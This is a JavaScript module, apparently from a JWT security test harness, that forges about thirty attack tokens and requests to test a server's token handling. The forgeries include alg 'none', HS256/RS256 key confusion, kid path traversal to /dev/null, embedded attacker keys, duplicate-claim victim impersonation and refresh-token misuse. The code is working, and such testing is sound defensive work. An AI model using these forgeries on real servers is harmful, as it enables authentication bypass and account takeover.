// How to make each attack of attacks.json, by its id, as
// internal/attack/forge.go does. Attacks that hold a body back are missing,
// because browsers send whole bodies. An attack needs only a token of the
// attacker, the victim's public id, and what a browser can compute.
import { decode, encode } from "./token.js";

const json = (value) => encode(JSON.stringify(value));

// A Forgery is a token in its three parts, which can be edited one by one.
class Forgery {
  constructor(token) {
    [this.header, this.payload, this.signature] = token.split(".");
  }

  toString() {
    return `${this.header}.${this.payload}.${this.signature}`;
  }

  // put replaces whole parts.
  put(parts) {
    return Object.assign(this, parts);
  }

  // says returns the content of the header or the payload.
  says(part) {
    return JSON.parse(decode(this[part]));
  }

  // edit sets members; undefined removes one.
  edit(part, members) {
    return this.put({ [part]: json({ ...this.says(part), ...members }) });
  }

  // sign signs by HS256 (RFC 7518 §3.2) with the attacker's key: text or bytes.
  // For a server with EdDSA, 64 bytes not made with the server's key serve as
  // well.
  async sign(key) {
    if (this.says("header").alg === "EdDSA") return this.put({ signature: encode(crypto.getRandomValues(new Uint8Array(64))) });
    if (!crypto.subtle) throw new Error("browsers sign by https only, or for a server on this machine");
    const bytes = new TextEncoder();
    const made = await crypto.subtle.importKey("raw", typeof key === "string" ? bytes.encode(key) : key, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
    return this.put({ signature: encode(await crypto.subtle.sign("HMAC", made, bytes.encode(`${this.header}.${this.payload}`))) });
  }

  // unsecure makes the token claim that it needs no signature (RFC 7519 §6).
  unsecure(alg) {
    return this.put({ header: json({ alg, typ: "JWT" }), signature: "" });
  }
}

// neighbour returns the letter that differs from another in its lowest bit.
const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const neighbour = (letter) => alphabet[alphabet.indexOf(letter) ^ 1];

const mine = "a secret that the attacker made up";

// forge has one function per attack. It gets the attacker's access token as a
// Forgery, and { access, refresh, victim, keys }: genuine tokens, a public id,
// and the server's published keys. It returns the forged token, or { token, … }
// with more: original, the token it was made from if not the access token;
// query or cookie, used instead of the header; header, the whole header; body.
export const forge = {
  "payload-edited": (t) => t.edit("payload", { exp: t.says("payload").exp + 315576000 }), // ten years, in seconds
  "type-edited": (t, { refresh }) => ({ token: new Forgery(refresh).edit("payload", { type: "access" }), original: refresh }),
  "duplicate-claims": (t, { victim }) => t.put({ payload: encode(`${decode(t.payload).slice(0, -1)},"sub":"${victim}"}`) }),
  "signature-missing": (t) => t.put({ signature: "" }),
  "signature-changed": (t) => t.put({ signature: neighbour(t.signature[0]) + t.signature.slice(1) }),
  "signature-respelt": (t) => t.put({ signature: t.signature.slice(0, -1) + neighbour(t.signature.at(-1)) }),
  "other-key": (t) => t.sign("secret"),
  "alg-none": (t) => t.unsecure("none"),
  "alg-none-respelt": (t) => t.unsecure("nOnE"),
  "alg-swapped": (t, { keys }) => {
    if (t.says("header").alg !== "EdDSA") return t.edit("header", { alg: "RS256" });
    const published = atob(keys[0].x.replaceAll("-", "+").replaceAll("_", "/"));
    return t.edit("header", { alg: "HS256" }).sign(Uint8Array.from(published, (c) => c.charCodeAt(0)));
  },
  // HMAC pads its key with zeros, so one zero byte is the same key as the empty
  // one (RFC 2104 §2), which WebCrypto rejects.
  "kid-elsewhere": (t) => t.edit("header", { kid: "../../../../../../dev/null" }).sign(new Uint8Array(1)),
  "jwk-embedded": (t) => {
    const { alg } = t.says("header");
    const jwk = alg === "EdDSA" ? { kty: "OKP", crv: "Ed25519", x: encode(mine.slice(0, 32)) } : { kty: "oct", alg, k: encode(mine) };
    return t.edit("header", { kid: undefined, jwk }).sign(mine);
  },
  "crit-unknown": (t) => t.edit("header", { crit: ["eve"], eve: 1 }),
  "over-long": (t) => t.edit("payload", { x: "x".repeat(8192) }),
  "token-in-query": (token) => ({ token, query: true }),
  "token-in-cookie": (token) => ({ token, cookie: true }),
  "two-headers": (t, { access }) => ({ token: t.unsecure("none"), header: `Bearer ${access}, Bearer ${t}` }),
  "refresh-as-access": (t, { refresh }) => ({ token: refresh, original: refresh }),
  "access-as-refresh": (t) => t,
  "replay-after-logout": (t) => t,
  "restores-itself": (token) => ({ token, body: { revoke: false } }),
  "refresh-replayed": (t, { refresh }) => ({ token: refresh, original: refresh }),
  "others-item-changed": (token) => ({ token, body: { itemname: "mine now" } }),
  "others-item-deleted": (t) => t,
  "admin-at-signup": (t) => t,
  "renamed-by-thief": (token) => ({ token, body: { username: "mine now" } }),
  "expired": (t) => t,
  "not-yet-valid": (t) => t,
};

// presets are the attacks that consist of a forged token alone: a page can show what
// they make of any token.
export const presets = ["payload-edited", "type-edited", "duplicate-claims", "signature-missing", "signature-changed", "signature-respelt", "other-key",
  "alg-none", "alg-none-respelt", "alg-swapped", "kid-elsewhere", "jwk-embedded", "crit-unknown", "over-long", "refresh-as-access"];

// signed signs a token anew with a secret of one's own, and says so in its header.
export async function signed(token, secret) {
  const t = new Forgery(token);
  if (t.says("header").alg !== "HS256") t.edit("header", { alg: "HS256" });
  return String(await t.sign(secret));
}

export const forged = async (id, made) => {
  const result = await forge[id](new Forgery(made.access), made);
  const shot = result instanceof Forgery ? { token: result } : result;
  return { original: made.access, ...shot, token: String(shot.token) };
};
